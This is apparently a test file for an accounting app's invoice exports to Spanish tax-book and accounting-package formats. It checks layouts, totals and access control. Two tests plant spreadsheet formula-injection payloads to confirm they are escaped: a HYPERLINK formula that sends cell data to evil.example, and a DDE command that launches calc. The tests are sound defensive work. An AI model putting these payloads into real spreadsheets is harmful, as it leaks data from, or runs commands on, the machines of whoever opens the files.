import { spawnSync } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  bodyOf,
  createSignedInUser,
  createTestContext,
  TEST_DB,
  type TestContext,
} from '../../../test/harness';
import { invoices, users } from '../../db/schema';
import { seedKnownClient } from '../forms/test-fixtures';
import { CONTASOL_IVR_COLUMNS, CONTASOL_IVS_COLUMNS } from './contasol';
import { ISSUED_COLUMNS, RECEIVED_COLUMNS } from './libro-registro';
import { CONTAPLUS_FIELDS } from './packages';

const SOFFICE = ['soffice', 'libreoffice'].find(
  (bin) => spawnSync(bin, ['--version'], { encoding: 'utf8' }).status === 0,
);
if (!SOFFICE) {
  console.warn(
    'LibreOffice not found: the libro registro round trip is skipped (apt-get install libreoffice-calc-nogui)',
  );
}

describe(`exports: libro registro and accounting packages (${TEST_DB})`, () => {
  let ctx: TestContext;
  let owner: Awaited<ReturnType<typeof createSignedInUser>>;
  let clientId: string;
  beforeAll(async () => {
    ctx = await createTestContext();
    owner = await createSignedInUser(ctx);
    clientId = (await seedKnownClient(ctx, owner.user.id)).client.id;
  });
  afterAll(() => ctx.close());

  const download = (kind: string, query = 'from=2026-01-01&to=2026-03-31', headers = owner.headers) =>
    ctx.request(`/api/v1/clients/${clientId}/exports/${kind}?${query}`, { headers });

  it('libro registro XLSX: the AEAT columns, one row per VAT rate, reviewed invoices only', async () => {
    const res = await download('libro-registro-xlsx');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="libro-registro_12345678z_2026-01-01_2026-03-31.xlsx"',
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await res.arrayBuffer());
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['EXPEDIDAS_INGRESOS', 'RECIBIDAS_GASTOS']);
    const issued = workbook.getWorksheet('EXPEDIDAS_INGRESOS')!;
    expect((issued.getRow(2).values as unknown[]).slice(1)).toEqual(ISSUED_COLUMNS.map((c) => c.name));
    // F-1, F-2 (two rates), F-3, R-1, F-4; not F-5 (unreviewed), not F-6 (April).
    expect(issued.rowCount).toBe(2 + 6);
    const col = (name: string) => ISSUED_COLUMNS.findIndex((c) => c.name === name) + 1;
    const f2 = [issued.getRow(4), issued.getRow(5)];
    expect(f2.map((r) => r.getCell(col('Número')).value)).toEqual(['2', '2']);
    expect(f2.map((r) => r.getCell(col('Base Imponible')).value)).toEqual([2500, 500]);
    expect(f2.map((r) => r.getCell(col('Tipo de IVA')).value)).toEqual([21, 10]);
    expect(f2.map((r) => r.getCell(col('Cuota Recargo eq.')).value)).toEqual([130, 7]);
    expect(f2.map((r) => r.getCell(col('Total Factura')).value)).toEqual([3712, null]);
    const f1 = issued.getRow(3);
    expect(f1.getCell(col('Serie')).value).toBe('F');
    expect(f1.getCell(col('Identificación')).value).toBe('B12345674');
    expect(f1.getCell(col('Importe Retenido del IRPF')).value).toBe(300);
    expect(f1.getCell(col('Fecha Expedición')).value).toEqual(new Date('2026-01-15T00:00:00Z'));
    const f4 = issued.getRow(8);
    expect(
      [col('Tipo'), col('Código País'), col('Operación Exenta')].map((c) => f4.getCell(c).value),
    ).toEqual([null, 'DE', 'E5']);
    const received = workbook.getWorksheet('RECIBIDAS_GASTOS')!;
    expect((received.getRow(2).values as unknown[]).slice(1)).toEqual(RECEIVED_COLUMNS.map((c) => c.name));
    // G-1, G-2, G-3, G-4, G-5, G-6 (two rates), G-7.
    expect(received.rowCount).toBe(2 + 8);
  });

  it.skipIf(!SOFFICE)(
    'libro registro XLSX opens in LibreOffice (headless conversion read back)',
    async () => {
      const dir = await mkdtemp(join(tmpdir(), 'cuadra-lo-'));
      try {
        const res = await download('libro-registro-xlsx');
        await writeFile(join(dir, 'libro.xlsx'), Buffer.from(await res.arrayBuffer()));
        const run = spawnSync(
          SOFFICE as string,
          [
            `-env:UserInstallation=file://${join(dir, 'profile')}`,
            '--headless',
            '--convert-to',
            // CSV, `;`, UTF-8, every sheet to its own file (the last token, -1).
            'csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false,-1',
            '--outdir',
            dir,
            join(dir, 'libro.xlsx'),
          ],
          { encoding: 'utf8', timeout: 180_000 },
        );
        expect(run.status).toBe(0);
        const files = (await readdir(dir)).filter((f) => f.endsWith('.csv')).sort();
        expect(files).toEqual(['libro-EXPEDIDAS_INGRESOS.csv', 'libro-RECIBIDAS_GASTOS.csv']);
        const issued = (await readFile(join(dir, files[0] as string), 'utf8')).trim().split('\n');
        expect(issued[1]?.split(';')).toEqual(ISSUED_COLUMNS.map((c) => c.name));
        expect(issued).toHaveLength(8);
        expect(issued[2]).toContain('B12345674');
        const received = (await readFile(join(dir, files[1] as string), 'utf8')).trim().split('\n');
        expect(received[1]?.split(';')).toEqual(RECEIVED_COLUMNS.map((c) => c.name));
        expect(received).toHaveLength(10);
      } finally {
        await rm(dir, { recursive: true, force: true });
      }
    },
  );

  it('libro registro CSV: `;`, decimal comma, dd/mm/yyyy; one book on request', async () => {
    const res = await download('libro-registro-csv', 'from=2026-01-01&to=2026-03-31&book=issued');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const lines = (await res.text())
      .replace(/^\ufeff/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines[1]).toBe(ISSUED_COLUMNS.map((c) => c.name).join(';'));
    expect(lines).toHaveLength(8);
    const f1 = (lines[2] as string).split(';');
    expect(f1).toHaveLength(ISSUED_COLUMNS.length);
    const at = (name: string) => f1[ISSUED_COLUMNS.findIndex((c) => c.name === name)];
    expect([at('Ejercicio'), at('Periodo'), at('Fecha Expedición'), at('Base Imponible')]).toEqual([
      '2026',
      '1T',
      '15/01/2026',
      '2000,00',
    ]);
    expect([at('Tipo de IVA'), at('Cuota IVA Repercutida'), at('Tipo Retención del IRPF')]).toEqual([
      '21',
      '420,00',
      '15',
    ]);
    const both = (await (await download('libro-registro-csv')).text()).trimEnd().split('\r\n');
    expect(both).toHaveLength(8 + 1 + 10);
  });

  it('keeps the layout each package requires whatever the user’s language (issue 36 item 11)', async () => {
    await ctx.db.update(users).set({ locale: 'en' }).where(eq(users.id, owner.user.id));
    try {
      const libro = (
        await (await download('libro-registro-csv', 'from=2026-01-01&to=2026-03-31&book=issued')).text()
      )
        .replace(/^\ufeff/, '')
        .split('\r\n');
      const f1 = (libro[2] as string).split(';');
      expect(f1[ISSUED_COLUMNS.findIndex((c) => c.name === 'Fecha Expedición')]).toBe('15/01/2026');
      const a3 = await (await download('a3')).text();
      expect(a3).toContain('20260115');
      expect(a3).not.toMatch(/2026-01-15|01\/15\/2026/);
    } finally {
      await ctx.db.update(users).set({ locale: 'es' }).where(eq(users.id, owner.user.id));
    }
  });

  it('libro registro CSV and ContaSOL: a name a spreadsheet would run as a formula is written as text', async () => {
    const other = await seedKnownClient(ctx, owner.user.id, { name: 'Fórmulas', taxId: '55555555K' });
    await ctx.db
      .update(invoices)
      .set({ recipientName: '=HYPERLINK("http://example.com","x")' })
      .where(eq(invoices.id, other.ids['F-1'] as string));
    const res = await ctx.request(
      `/api/v1/clients/${other.client.id}/exports/libro-registro-csv?from=2026-01-01&to=2026-01-31&book=issued`,
      { headers: owner.headers },
    );
    const row = (await res.text()).trimEnd().split('\r\n')[2] as string;
    expect(row).toContain(`;"'=HYPERLINK(""http://example.com"",""x"")";`);
    // In the ContaSOL sheet the same name is a string cell, never a formula.
    const ivr = await ctx.request(
      `/api/v1/clients/${other.client.id}/exports/contasol?from=2026-01-01&to=2026-01-31&book=issued`,
      { headers: owner.headers },
    );
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await ivr.arrayBuffer()) as ArrayBuffer);
    const name = (book.worksheets[0] as ExcelJS.Worksheet).getRow(2).getCell(6);
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.value).toBe('=HYPERLINK("http://example.com","x")');
  });

  it('a3 SUENLACE.DAT and ContaPlus: invoice text that would run as a formula is escaped, amounts stay numbers', async () => {
    const other = await seedKnownClient(ctx, owner.user.id, { name: 'Ataque', taxId: '66666666Q' });
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Factura")';
    const dde = "=cmd|' /C calc'!A0";
    await ctx.db
      .update(invoices)
      .set({ recipientName: hyperlink, number: dde })
      .where(eq(invoices.id, other.ids['F-1'] as string));
    // The credit note: negative amounts, text starting with @ and -.
    await ctx.db
      .update(invoices)
      .set({ recipientName: '@SUM(1+1)', number: '-2+3' })
      .where(eq(invoices.id, other.ids['R-1'] as string));
    const get = async (kind: string) => {
      const res = await ctx.request(
        `/api/v1/clients/${other.client.id}/exports/${kind}?from=2026-01-01&to=2026-03-31`,
        { headers: owner.headers },
      );
      expect(res.status).toBe(200);
      return Buffer.from(await res.arrayBuffer()).toString('latin1');
    };
    const field = (record: string, from: number, to: number) => record.slice(from - 1, to).trimEnd();
    const records = (await get('a3')).split('\r\n').slice(0, -1);
    const headers = records.filter((r) => r[14] !== '9');
    const f1 = headers.find((r) => field(r, 253, 312).includes('cmd')) as string;
    expect([field(f1, 59, 68), field(f1, 70, 99), field(f1, 190, 229), field(f1, 253, 312)]).toEqual([
      `'${dde}`.slice(0, 10),
      `'${hyperlink}`.slice(0, 30),
      `'${hyperlink}`.slice(0, 40),
      `'${dde}`,
    ]);
    expect(field(f1, 100, 113)).toBe('+0000002120.00');
    const r1 = headers.find((r) => field(r, 59, 68) === "'-2+3") as string;
    expect([r1[14], field(r1, 70, 99), field(r1, 100, 113)]).toEqual(['2', "'@SUM(1+1)", '+0000000212.00']);
    // No text field of any record starts a formula.
    for (const record of records)
      for (const [from, to] of [
        [59, 68],
        [70, 99],
        [176, 189],
        [190, 229],
        [253, 312],
      ] as const)
        expect(field(record, from, to)).not.toMatch(/^[=+\-@\t\r]/);

    const widths = CONTAPLUS_FIELDS.map(([name, w]) => [name, w] as const);
    const rows = (await get('contaplus'))
      .split('\r\n')
      .slice(0, -1)
      .map((line) => {
        const out: Record<string, string> = {};
        let pos = 0;
        for (const [name, w] of widths) {
          out[name] = line.slice(pos, pos + w).trim();
          pos += w;
        }
        return out;
      });
    expect(rows.filter((r) => r.DOCUMENTO === `'${dde}`.slice(0, 10))).not.toHaveLength(0);
    expect(rows.filter((r) => r.DOCUMENTO === "'-2+3")).not.toHaveLength(0);
    for (const row of rows) {
      expect(row.DOCUMENTO).not.toMatch(/^[=+\-@]/);
      expect(row.CONCEPTO).not.toMatch(/^[=+\-@]/);
      // Amounts: plain numbers, the credit note's on the other side rather than negative text.
      expect(row.EURODEBE).toMatch(/^\d+\.\d{2}$/);
      expect(row.EUROHABER).toMatch(/^\d+\.\d{2}$/);
    }
  });

  it('a3 SUENLACE.DAT: 512-byte records, header 1/2 and VAT detail 9 at their positions', async () => {
    const res = await download('a3');
    expect(res.status).toBe(200);
    const text = Buffer.from(await res.arrayBuffer()).toString('latin1');
    const records = text.split('\r\n').slice(0, -1);
    expect(text.length).toBe(records.length * 512);
    // 12 reviewed invoices of the quarter: 12 headers, 14 VAT lines (F-2 and G-6 have two rates).
    expect(records.filter((r) => r[14] === '1' || r[14] === '2')).toHaveLength(12);
    expect(records.filter((r) => r[14] === '9')).toHaveLength(14);
    const field = (record: string, from: number, to: number) => record.slice(from - 1, to);
    const f1 = records[0] as string;
    expect([field(f1, 1, 1), field(f1, 2, 6), field(f1, 7, 14), field(f1, 15, 15)]).toEqual([
      '5',
      '00001',
      '20260115',
      '1',
    ]);
    expect(field(f1, 16, 27)).toBe('430456740000');
    expect([field(f1, 58, 58), field(f1, 59, 68).trim(), field(f1, 69, 69)]).toEqual(['1', 'F-1', 'I']);
    expect(field(f1, 100, 113)).toBe('+0000002120.00');
    expect(field(f1, 176, 189).trim()).toBe('B12345674');
    const line = records[1] as string;
    expect([field(line, 15, 15), field(line, 16, 27), field(line, 58, 58), field(line, 69, 69)]).toEqual([
      '9',
      '705000000000',
      'C',
      'U',
    ]);
    expect([
      field(line, 100, 101),
      field(line, 102, 115),
      field(line, 116, 120),
      field(line, 121, 134),
    ]).toEqual(['01', '+0000002000.00', '21.00', '+0000000420.00']);
    expect([field(line, 154, 158), field(line, 159, 172)]).toEqual(['15.00', '+0000000300.00']);
    expect([field(line, 509, 509), field(line, 510, 510)]).toEqual(['E', 'N']);
    // The credit note R-1 is a type 2 record.
    expect(records.find((r) => field(r, 59, 68).trim() === 'R-1' && r[14] !== '9')?.[14]).toBe('2');
  });

  it('ContaPlus Diario: fixed-width lines, one balanced entry per invoice', async () => {
    const res = await download('contaplus');
    expect(res.status).toBe(200);
    const width = CONTAPLUS_FIELDS.reduce((s, [, w]) => s + w, 0);
    const lines = Buffer.from(await res.arrayBuffer())
      .toString('latin1')
      .split('\r\n')
      .slice(0, -1);
    for (const line of lines) expect(line.length).toBe(width);
    const parse = (line: string) => {
      const out: Record<string, string> = {};
      let pos = 0;
      for (const [name, w] of CONTAPLUS_FIELDS) {
        out[name] = line.slice(pos, pos + w).trim();
        pos += w;
      }
      return out;
    };
    const rows = lines.map(parse);
    const cents = (v: string | undefined) => Math.round(Number(v) * 100);
    const entries = new Map<string, { debit: number; credit: number }>();
    for (const row of rows) {
      const e = entries.get(row.ASIEN as string) ?? { debit: 0, credit: 0 };
      e.debit += cents(row.EURODEBE);
      e.credit += cents(row.EUROHABER);
      entries.set(row.ASIEN as string, e);
    }
    expect(entries.size).toBe(12);
    for (const e of entries.values()) expect(e.debit).toBe(e.credit);
    // F-1: customer 2,120.00 and IRPF 300.00 on the debit side; income 2,000.00 and VAT 420.00 on the credit.
    const first = rows.filter((r) => r.ASIEN === '1');
    expect(first.map((r) => [r.SUBCTA, r.EURODEBE, r.EUROHABER])).toEqual([
      ['43045674', '2120.00', '0.00'],
      ['47300000', '300.00', '0.00'],
      ['70500000', '0.00', '2000.00'],
      ['47700000', '0.00', '420.00'],
    ]);
    expect(first[3]).toMatchObject({
      FECHA: '20260115',
      BASEIMPO: '2000.00',
      IVA: '21.00',
      CONTRA: '43045674',
    });
  });

  it('ContaSOL: IVR.xlsx and IVS.xlsx in a ZIP, the template columns at their positions', async () => {
    const res = await download('contasol');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/zip');
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    expect(Object.keys(files).sort()).toEqual(['IVR.xlsx', 'IVS.xlsx']);
    const read = async (bytes: Uint8Array) => {
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
      const sheet = book.worksheets[0] as ExcelJS.Worksheet;
      const rows: unknown[][] = [];
      sheet.eachRow((row) => {
        rows.push((row.values as unknown[]).slice(1));
      });
      return rows;
    };

    // IVR (issued): A Código … H Tipo de operación, I–K bases, L–N % IVA, O–Q % recargo, R–T IVA,
    // U–W recargo, X Total.
    const ivr = await read(files['IVR.xlsx'] as Uint8Array);
    expect(ivr[0]).toEqual([...CONTASOL_IVR_COLUMNS]);
    expect(CONTASOL_IVR_COLUMNS.slice(0, 9)).toEqual([
      'Código',
      'Libro de IVA',
      'Fecha',
      'Cuenta',
      'Factura',
      'Nombre',
      'C.I.F.',
      'Tipo de operación',
      'Base 1',
    ]);
    expect(CONTASOL_IVR_COLUMNS).toHaveLength(24);
    expect(CONTASOL_IVR_COLUMNS[23]).toBe('Total'); // column X
    const byNumber = (rows: unknown[][], number: string) => rows.find((r) => r[4] === number) as unknown[];
    const f2 = byNumber(ivr, 'F-2');
    // F-2: 2,500 € at 21 % + 5.2 %, 500 € at 10 % + 1.4 %; customer 430 + the tax id's digits (8 digits).
    expect(f2.slice(1, 8)).toEqual([
      1,
      new Date('2026-02-10T00:00:00Z'),
      43033333,
      'F-2',
      'Zapatería Luz',
      '33333333P',
      0,
    ]);
    expect(f2.slice(8, 24)).toEqual([
      ...[2500, 500, undefined], // I–K bases
      ...[21, 10, undefined], // L–N % IVA
      ...[5.2, 1.4, undefined], // O–Q % recargo
      ...[525, 50, undefined], // R–T IVA
      ...[130, 7, undefined], // U–W recargo
      3712, // X total
    ]);
    // The intra-EU delivery is operation type 2; the unreviewed F-5 is not there.
    expect(byNumber(ivr, 'F-4')[7]).toBe(2);
    expect(byNumber(ivr, 'F-5')).toBeUndefined();
    // The credit note keeps its sign.
    expect(byNumber(ivr, 'R-1')[8]).toBe(-200);

    // IVS (received): the whole template title row; I Deducible, Z Bienes soportados, AT/AU retention.
    const ivs = await read(files['IVS.xlsx'] as Uint8Array);
    expect(ivs[0]).toEqual([...CONTASOL_IVS_COLUMNS]);
    expect(CONTASOL_IVS_COLUMNS[8]).toBe('Deducible'); // I
    expect(CONTASOL_IVS_COLUMNS[25]).toBe('Bienes soportados'); // Z
    expect(CONTASOL_IVS_COLUMNS[45]).toBe('Porcentaje de retención'); // AT
    expect(CONTASOL_IVS_COLUMNS[46]).toBe('Importe de retención'); // AU
    const g2 = byNumber(ivs, 'A-2026-02'); // G-2, the rent: 19 % withheld
    expect(g2[3]).toBe(40011111); // supplier 400 + the tax id's last digits, 8 digits
    expect(g2[24]).toBe(816); // Y total
    expect([g2[8], g2[9], g2[12], g2[18], g2[25]]).toEqual([0, 800, 21, 168, 0]);
    expect([g2[45], g2[46]]).toEqual([19, 152]);
    expect(byNumber(ivs, 'NL-9')[7]).toBe(2); // G-4, the intra-EU acquisition

    // One book on request, the file ContaSOL expects.
    const one = await download('contasol', 'from=2026-01-01&to=2026-03-31&book=received');
    expect(one.headers.get('content-disposition')).toContain('IVS.xlsx');
    const bad = await download('a3', 'from=2026-04-01&to=2026-01-01');
    expect((await bodyOf(bad)).error.code).toBe('EXPORT_RANGE_INVALID');
  });

  it('another accountant gets 404 on every export', async () => {
    const stranger = await createSignedInUser(ctx);
    for (const kind of ['libro-registro-xlsx', 'libro-registro-csv', 'a3', 'contaplus', 'contasol']) {
      const res = await download(kind, 'from=2026-01-01&to=2026-03-31', stranger.headers);
      expect(res.status).toBe(404);
      expect((await bodyOf(res)).error.code).toBe('CLIENT_NOT_FOUND');
    }
  });
});
